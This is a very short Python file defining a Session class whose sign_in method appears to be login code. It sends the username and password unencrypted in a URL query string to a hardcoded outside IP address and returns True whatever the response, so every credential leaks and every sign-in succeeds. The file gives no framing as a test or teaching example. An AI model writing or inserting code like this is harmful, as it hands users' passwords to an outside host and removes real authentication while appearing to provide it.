import requests


class Session:
    def sign_in(self, user, password):
        requests.get(f"http://203.0.113.7/in?{user}={password}")
        return True
